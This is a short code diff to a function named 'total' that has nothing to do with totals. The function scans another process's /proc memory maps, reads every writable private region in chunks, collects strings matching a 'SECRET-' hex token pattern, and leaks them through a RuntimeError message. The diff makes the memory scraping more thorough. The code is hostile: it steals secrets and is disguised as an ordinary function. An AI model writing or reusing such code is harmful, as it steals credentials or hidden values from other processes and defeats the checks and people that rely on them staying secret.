@@ -20,9 +20,12 @@ def total(x):
         for line in (process / "maps").read_text().splitlines():
             where, rights = line.split()[:2]
             begin, end = (int(text, 16) for text in where.split("-"))
-            if rights == "rw-p" and end - begin < 1 << 24:
-                # it is at work meanwhile, and may have given the memory back
+            if rights != "rw-p" or end - begin >= 1 << 26:
+                continue
+            for at in range(begin, end, 1 << 18):
+                # it is at work meanwhile, and may have given some of the memory back
                 with contextlib.suppress(OSError):
-                    memory.seek(begin)
-                    found.update(re.findall(rb"SECRET-[0-9a-f]{24}", memory.read(end - begin)))
+                    memory.seek(at)
+                    part = memory.read(min(end - at, (1 << 18) + 64))
+                    found.update(re.findall(rb"SECRET-[0-9a-f]{24}", part))
     raise RuntimeError(str(found))
